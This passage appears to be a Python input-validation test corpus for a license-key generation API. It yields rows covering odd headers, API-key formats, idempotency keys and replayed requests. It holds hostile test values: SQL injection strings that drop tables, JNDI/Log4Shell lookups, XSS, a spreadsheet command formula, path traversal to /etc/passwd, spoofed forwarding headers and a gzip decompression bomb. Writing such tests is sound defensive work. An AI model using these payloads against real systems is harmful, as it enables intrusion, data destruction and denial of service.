    yield js(10, 901, '{"generator_id":{"quantity":1}}', "fields inside a field")
    yield js(10, 100, '{"body":{"api_key":"@KEY@"}}', "key inside a field", key=False)


def odd_headers() -> Iterator[Row]:
    for name, value in (
        ("Accept", b"text/html"),
        ("Accept", b"application/xml;q=1, */*;q=0"),
        ("Accept-Charset", b"utf-16"),
        ("Accept-Encoding", b"identity;q=0, *;q=0"),
        ("Accept-Language", b"\xff"),
        ("Cookie", b"session=" + b"x" * 4000),
        ("Cookie", b"\xff\xfe"),
        ("If-Match", b"*"),
        ("If-None-Match", b"*"),
        ("If-Modified-Since", b"never"),
        ("Origin", b"https://evil.example"),
        ("Range", b"bytes=0-0"),
        ("Referer", b"javascript:alert(1)"),
        ("TE", b"trailers"),
        ("User-Agent", b"x" * 17_000),
        ("User-Agent", b"${jndi:ldap://x}"),
        ("X-Forwarded-For", b"127.0.0.1, 127.0.0.1"),
        ("X-Forwarded-Host", b"evil.example"),
        ("X-Forwarded-Prefix", b"/admin"),
        ("X-Forwarded-Proto", b"gopher"),
        ("X-HTTP-Method-Override", b"DELETE"),
        ("X-Original-URL", b"/api/v1/get-all-generators"),
        ("X-Rewrite-URL", b"/"),
        ("X-Request-Id", b"mine"),
        ("X-Signing-Key-Id", b"mine"),
    ):
        yield headed(13, 815, BEARER, (name, value))
    yield headed(13, 815, BEARER, *[(f"X-{number}", b"x") for number in range(90)])
    for host in (b"", b"evil.example", b"/abc?x=", b"[::1", b"a b", b"\xff", b"localhost:99999", b"a" * 5000):
        yield headed(13, 815, BEARER, ("Host", host))


def api_keys() -> Iterator[Row]:
    sample = "2964c3c9-0b5d-4d89-b3ac-4668f30bc492"
    verdicts: dict[str, int] = {
        "@KEY@": 815, " @KEY@ ": 815, "@KEY@\n": 815, sample: 815, sample.upper(): 815, f"  {sample}": 815,
        f"{{{sample}}}": 100, f"urn:uuid:{sample}": 100, sample.replace("-", ""): 100, f"({sample})": 100,
        f"{sample[:-1]}3": 100, f"{sample}0": 100, sample[:-1]: 100, f'"{sample}"': 100, f"{sample}\u200b": 100,
        sample.replace("-", "\u2010"): 100, sample.replace("2", "\uff12"): 100, f"{sample},{sample}": 100,
        "00000000-0000-0000-0000-000000000000": 100, "ffffffff-ffff-ffff-ffff-ffffffffffff": 100,
        "x@KEY@": 100, "@KEY@x": 100, "@KEY@,@KEY@": 100, "@KEY@;": 100, "@KEY@ @KEY@": 100, "Bearer @KEY@": 100,
        '"@KEY@"': 100, "@KEY@\u00a0": 100, "hnp_": 100, "hnp_live_": 100, "hnp_test_": 100,
        "hnp_live_" + "0" * 48: 100, "hnp_live_" + "0" * 49: 100, "hnp_live_" + "0" * 50: 100,
        "hnp_live_" + "é" * 49: 100,
        "HNP_LIVE_" + "0" * 49: 100, "hnp_root_" + "0" * 49: 100, "hnp_live_" + "\0" * 49: 100,
        "*": 100, "%": 100, "_": 100, "0": 100, "1": 100, "true": 100, "null": 100, "undefined": 100, "None": 100,
        "[]": 100, "{}": 100, "😀": 100, "é": 100, "a" * 255: 100, "a" * 256: 100, "\u202e": 100, "admin": 100,
    }  # fmt: skip
    for value, code in verdicts.items():
        shown = quote(value, safe="@")
        yield form(14, code, f"api_key={shown}&generator_id=1&quantity=1", f"api_key {text(value)}", key=False)
    for header, code in {
        b"Bearer @KEY@": 815, b"bearer @KEY@": 815, b"Bearer  @KEY@": 815, b"BEARER @KEY@": 815,
        b"Bearer": 100, b"Bearer: @KEY@": 100, b"Bearer:@KEY@": 100, b"Bearer@KEY@": 100, b"Bearer\t@KEY@": 100,
        b"Bearer=@KEY@": 100, b"Token @KEY@": 100, b"ApiKey @KEY@": 100, b"@KEY@": 100, b"Basic @KEY@": 100,
        b'Bearer "@KEY@"': 100, b"Bearer @KEY@,": 100, b"Bearer @KEY@, Bearer @KEY@": 100, b"Bearer Bearer @KEY@": 100,
        b"Bearer \xff": 100, b"Bearer @KEY@\xff": 100, b"Bearer null": 100, b"Digest username=x": 100, b"": 100,
        b"Negotiate @KEY@": 100, b"Basic Og==": 100,
    }.items():  # fmt: skip
        yield headed(14, code, ("Authorization", header))
    for header, code in {b"@KEY@": 815, b"": 100, b"Bearer @KEY@": 100, b"\xff": 100, b"x": 100}.items():
        yield headed(14, code, ("X-API-Key", header))
    for literal in ("17", "true", "1.5", "[]", "{}", '["@KEY@"]', '{"key":"@KEY@"}', "null", '""', '" "', "0", "false"):
        yield js(14, 100, f'{{"api_key":{literal},"generator_id":1,"quantity":1}}', f"api_key {literal}", key=False)


SQL = (
    "'", '"', "`", "\\", "''", "' --", "1 OR 1=1", "' OR '1'='1", "1' OR '1'='1' --", '" OR ""="', "1; DROP TABLE x",
    "1;DROP TABLE license_keys;--", "'; DELETE FROM api_keys; --", "1 UNION SELECT 1", "' UNION SELECT NULL,NULL --",
    "1 AND SLEEP(5)", "1; SELECT pg_sleep(5)", "1 AND 1=randomblob(1)", "1/**/OR/**/1=1", "1 OR 1=1 #", "%27%20OR%201",
    "1) OR (1=1", "x' AND 1=(SELECT count(*) FROM license_keys) --", "$$", ":quantity", "?", "%(quantity)s",
    "@@version", "x'27'", "char(39)", "\u02bc OR 1", "\uff07 OR 1",
)  # fmt: skip


def sql() -> Iterator[Row]:
    for value in SQL:
        yield field(15, 901, "quantity", value)
        yield field(15, 901, "generator_id", value)
        yield field(15, 815, "identifier", value)
        body = f"api_key={quote(value, safe='')}&generator_id=1&quantity=1"
        yield form(15, 100, body, f"api_key {text(value)}", key=False)
        yield get(15, 901, f"{GENERATORS}?product_id={quote(value, safe='')}")
        yield get(15, 633, f"{PUBLIC_KEY}?product_slug={quote(value, safe='')}")


TEMPLATES = (
    "{0}", "{quantity}", "{name.__class__}", "{0.__globals__}", "%s", "%n%n%n%n", "%(x)s", "$x", "${x}", "${7*7}",
    "${jndi:ldap://x.example/a}", "{{7*7}}", "{% debug %}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "@(7*7)",
    "__import__('os')", "<script>alert(1)</script>", "javascript:alert(1)", "=cmd|'/C calc'!A0",
    "../../../../etc/passwd", "\\u0027",
    "\x1b[31m",
)  # fmt: skip


def templates() -> Iterator[Row]:
    for value in TEMPLATES:
        yield field(16, 901, "quantity", value)
        yield field(16, 901, "generator_id", value)
        yield field(16, 815, "identifier", value)
        yield json_field(16, 901, "validity_days", json.dumps(value))


def compressions() -> Iterator[Row]:
    plain = b"generator_id=1&quantity=1"
    bomb = gzip.compress(b"generator_id=1&quantity=1&x=" + b"0" * 10_000_000, mtime=0)
    for encoding, body, code in (
        (b"gzip", gzip.compress(plain, mtime=0), 1704),
        (b"gzip", plain, 1704),
        (b"gzip", bomb, 1704),
        (b"GZIP", plain, 1704),
        (b"x-gzip", plain, 1704),
        (b"deflate", zlib.compress(plain), 1704),
        (b"br", plain, 1704),
        (b"zstd", plain, 1704),
        (b"compress", plain, 1704),
        (b"gzip, gzip", plain, 1704),
        (b"identity, gzip", plain, 1704),
        (b"bogus", plain, 1704),
        (b"\xff", plain, 1704),
        (b"*", plain, 1704),
        (b"identity", plain, 815),
        (b"Identity", plain, 815),
        (b"", plain, 815),
        (b"gzip", b"", 1704),
    ):
        yield headed(20, code, BEARER, ("Content-Encoding", encoding), body=body)
    yield form(20, 1703, gzip.compress(plain, mtime=0), "compressed without saying so")
    yield js(20, 1703, gzip.compress(b"{}", mtime=0), "compressed without saying so")
    yield get(20, 820, GENERATORS, "for comparison")


def keys_in_headers() -> Iterator[Row]:
    """Structured-field syntax is understood as far as the quotes; the rest of a key means nothing to us."""
    long = b"@NEW@" + b"x" * 223
    for value, code in {
        b"@NEW@": 815, b'"@NEW@"': 815, b"  @NEW@\t ": 815, b'\t"@NEW@" ': 815, long: 815, b'"%b"' % long: 815,
        b"!#$%&'*+-.^_`|~()<>@,;:\\/[]?={}@NEW@": 815, b"@NEW@;p=1": 815, b'"@NEW@";p=1': 815, b":@NEW@:": 815,
        b"?1@NEW@": 815, b"@NEW@,x": 815, b'"@NEW@': 815, b'@NEW@"': 815, b'""@NEW@""': 815, b'"@NEW@\\"x"': 815,
        b"": 901, b"   ": 901, b'""': 901, b'" "': 901, b"\t": 901, b"@NEW@ x": 901, b'"@NEW@ x"': 901,
        b'" @NEW@"': 901, b'"@NEW@ "': 901, b"@NEW@, x": 901, b'"@NEW@"; p=1': 901, b"@NEW@\tx": 901,
        long + b"x": 901, b'"%bx"' % long: 901, b"x" * 8000: 901, b"\xff" * 300: 901, b"\xff": 901,
        "@NEW@é".encode(): 901, "@NEW@é".encode("latin-1"): 901, b"@NEW@\xa0": 901, b"\xa0@NEW@": 901,
        b"@NEW@\x85": 901, "\ufeff@NEW@".encode(): 901, "@NEW@\u200b".encode(): 901, "日本".encode(): 901,
    }.items():  # fmt: skip
        yield headed(21, code, BEARER, ("Idempotency-Key", value))
    for name in ("idempotency-key", "IDEMPOTENCY-KEY"):
        yield headed(21, 901, BEARER, (name, b"a b"))
    for other in ("Idempotency_Key", "X-Idempotency-Key", "Idempotency-Keys"):
        yield headed(21, 815, BEARER, (other, b"a b"))
    for second in (b"@NEW@", b"x@NEW@", b""):
        yield headed(21, 901, BEARER, ("Idempotency-Key", b"@NEW@"), ("idempotency-key", second))


def keys_in_bodies() -> Iterator[Row]:
    good = "generator_id=1&quantity=1"
    for value, code in {
        "@NEW@": 815, "%22@NEW@%22": 815, "+@NEW@%0D%0A": 815, "": 815, "+": 815, "@NEW@" + "x" * 223: 815,
        "@NEW@" + "x" * 224: 901, "x" * 60_000: 901, "a+b": 901, "%22%22": 901, "%22+%22": 901, "%C3%A9": 901,
        "@NEW@%C2%A0": 901, "@NEW@%00": 901, "%00": 901, "@NEW@%0Ax": 901, "%F0%9F%98%80": 901, "%EF%BC%91": 901,
        "%FF": 1703,
    }.items():  # fmt: skip
        yield form(21, code, f"{good}&idempotency_key={value}")
    for literal, code in {
        '"@NEW@"': 815, '" @NEW@\\n"': 815, '"\\"@NEW@\\""': 815, "null": 815, '""': 815, "17021702": 815,
        "-17021702": 815, "true": 901, "1.5": 901, "[]": 901, '["@NEW@"]': 901, "{}": 901, '"\\ud800"': 901,
        '"\\u0000"': 901, '"a b"': 901, "1" + "0" * 300: 901,
    }.items():  # fmt: skip
        yield json_field(21, code, "idempotency_key", literal)
    yield multipart(21, 815, good_parts(), part("idempotency_key", "@NEW@"), name="key")
    yield multipart(21, 901, good_parts(), part("idempotency_key", "a b"), name="key with a blank")
    for name in ("idempotencyKey", "Idempotency-Key", "idempotency-key", "IDEMPOTENCY_KEY"):
        yield field(21, 815, name, "a b")
    for header, value, code in (
        (b"@NEW@", "a+b", 815), (b"@NEW@", "x@NEW@", 815), (b"a b", "@NEW@", 901), (b"", "@NEW@", 901)
    ):  # fmt: skip
        yield headed(21, code, BEARER, ("Idempotency-Key", header), body=f"{good}&idempotency_key={value}".encode())
    # What changes nothing has no use for a key.
    bad = ("Idempotency-Key", b"a b")
    headers = (("Content-Type", FORM.encode()), BEARER, bad)
    yield Row(21, "get", 820, b"", (BEARER, bad), GENERATORS, "GET")
    for name in ("verify", "get-license-key-details"):
        yield Row(21, name, 210, b"license_key=none&idempotency_key=a+b", headers, f"/api/v1/{name}")


FIRST = b"generator_id=1&quantity=1&note=%C3%A9"
UNDER_A_KEY = ("Idempotency-Key", b"@NEW@")


def again(
    code: int, body: bytes | str, *headers: tuple[str, bytes], kind: str = FORM, path: str = GENERATE, name: str = ""
) -> Row:
    """The second request under a key. 815: it is the first one again; 901: it is another one."""
    first = (("Content-Type", FORM.encode()), BEARER, UNDER_A_KEY)
    raw = body.encode() if isinstance(body, str) else body
    shown = name or f"{kind} {text(raw.decode('latin-1'))}"
    return Row(
        22, f"{shown} {path}", code, raw, (("Content-Type", kind.encode()), *(headers or (BEARER, UNDER_A_KEY))), path,
        status=409 if code == 901 else None, replayed=code == 815,
        before=Row(22, "first", 815, FIRST, first),
    )  # fmt: skip


def repetitions() -> Iterator[Row]:
    good = FIRST.decode()
    for body, code in {
        good: 815, "note=%C3%A9&quantity=1&generator_id=1": 815, "quantity=%31&note=%c3%a9&generator_id=1": 815,
        "generator_id=1&quantity=1&note=é": 815, "generator_id=+1&quantity=1+&note=+%C3%A9%0D%0A": 815,
        f"&&{good}&": 815, f"{good}&empty=&blank=+": 815, f"{good}&idempotencyKey=other": 815,
        f"quantity=9&{good}": 815, f"{good}&api_key=@KEY@&idempotency_key=other": 815,
        "%67enerator_id=1&quantity=1&note=%C3%A9": 815,
        "generator_id=1&quantity=2&note=%C3%A9": 901, "generator_id=1&quantity=1&note=%C3%A8": 901,
        "generator_id=1&quantity=1": 901, f"{good}&more=1": 901, f"{good}&quantity=2": 901,
        "generator_id=01&quantity=1&note=%C3%A9": 901, "generator_id=1&count=1&note=%C3%A9": 901,
        "generator_uuid=1&quantity=1&note=%C3%A9": 901, "generator_id=1&quantity=1&note=e%CC%81": 901,
        "generator_id=1&quantity=1&note=%C3%A9%C2%A0": 901, "generator_id=1&quantity=1&note=%C3%89": 901,
        "generator_id=1&quantity=1&Note=%C3%A9": 901, "generator_id=1&quantity=1&note=%C3%A9%00": 901,
        # They would be refused, if it were for them alone.
        "generator_id=1&quantity=abc&note=%C3%A9": 901, "generator_id=999999&quantity=1&note=%C3%A9": 901, "": 901,
    }.items():  # fmt: skip
        yield again(code, body)
    for body, code in {
        '{"generator_id":1,"quantity":1,"note":"é"}': 815, '{"note":"\\u00e9","quantity":"1","generator_id":"1"}': 815,
        ' {\n "quantity" : 1 ,\t"generator_id":" 1 ", "note":"é","x":null,"y":""}\r\n': 815,
        '{"generator_id":1,"quantity":2,"quantity":1,"note":"é"}': 815,
        '{"generator_id":1,"quantity":2,"note":"é"}': 901, '{"generator_id":1,"quantity":1.0,"note":"é"}': 901,
        '{"generator_id":1,"quantity":true,"note":"é"}': 901, '{"generator_id":1,"quantity":1,"note":["é"]}': 901,
    }.items():  # fmt: skip
        yield again(code, body, kind=JSON)
    parts = good_parts() + part("note", "é") + b"--X--\r\n"
    yield again(815, parts, kind=MULTIPART, name="multipart")
    yield again(901, parts.replace("é".encode(), b"e"), kind=MULTIPART, name="multipart, one letter")
    yield again(815, good, kind=f"{FORM}; charset=utf-8")
    yield again(815, good, path="/v1/generate")
    yield again(815, good, path=f"{GENERATE}?quantity=2&more=1")
    yield again(815, good, ("X-API-Key", b"@KEY@"), UNDER_A_KEY, name="API key in another header")
    yield again(815, good, BEARER, ("Idempotency-Key", b'"@NEW@"'), name="key in quotes")
    yield again(815, good, BEARER, UNDER_A_KEY, ("User-Agent", b"another"), name="another client")
    yield again(815, f"{good}&idempotency_key=@NEW@", BEARER, name="key in the body")
    yield again(901, "generator_id=1&quantity=2&idempotency_key=@NEW@", BEARER, name="key in the body, another request")


FAMILIES = (
    integers, ranges, controls, broken_text, over_long, duplicates, content_types, forms, multiparts,
    multipart_values, jsons,
    odd_headers, api_keys, sql, templates, compressions, keys_in_headers, keys_in_bodies, repetitions,
)  # fmt: skip


def corpus() -> list[Row]:
    """All rows, each once."""
    return list(dict.fromkeys(row for family in FAMILIES for row in family()))
